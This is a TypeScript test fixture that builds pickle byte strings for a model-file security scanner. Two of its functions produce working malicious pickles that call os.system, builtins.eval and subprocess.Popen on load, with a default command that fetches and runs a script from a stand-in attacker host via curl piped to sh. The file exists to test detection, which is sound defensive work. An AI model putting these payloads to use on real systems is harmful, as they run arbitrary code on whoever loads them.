// Hand-written pickle bytes for the LSP tests (the fixture writers of other tiers are not needed).

/** Protocol 2: `os.system('id')` via GLOBAL + TUPLE1 + REDUCE. */
export function maliciousPickle(command = 'id'): Buffer {
  const arg = Buffer.from(command, 'utf8');
  const len = Buffer.alloc(4);
  len.writeUInt32LE(arg.length);
  return Buffer.concat([
    Buffer.from('\x80\x02cos\nsystem\nq\x00X', 'latin1'),
    len,
    arg,
    Buffer.from('q\x01\x85q\x02Rq\x03.', 'latin1'),
  ]);
}

/** Protocol 2: `{'a': 1}`, no imports at all. */
export function benignPickle(): Buffer {
  return Buffer.from('\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s.', 'latin1');
}

/** Bytes no format signature matches (a `.bin` of this is "unrecognised"). */
export function opaqueBlob(): Buffer {
  return Buffer.from('MSL-TEST-OPAQUE-BLOB\x00\x01\x02\x03 not a model\n'.repeat(4), 'latin1');
}

/** Protocol 2: three dangerous calls (os.system, builtins.eval, subprocess.Popen) in one tuple: three MSL601. */
export function threeCallsPickle(command = 'curl http://attacker.example/x | sh'): Buffer {
  const str = (s: string) => {
    const len = Buffer.alloc(4);
    len.writeUInt32LE(Buffer.byteLength(s));
    return Buffer.concat([Buffer.from('X', 'latin1'), len, Buffer.from(s, 'utf8')]);
  };
  const call = (module: string, name: string, arg: string) => Buffer.concat([Buffer.from(`c${module}\n${name}\n`, 'latin1'), str(arg), Buffer.from('\x85R', 'latin1')]);
  return Buffer.concat([
    Buffer.from('\x80\x02', 'latin1'),
    call('os', 'system', command),
    call('builtins', 'eval', "__import__('socket')"),
    call('subprocess', 'Popen', 'id'),
    Buffer.from('\x87.', 'latin1'),
  ]);
}
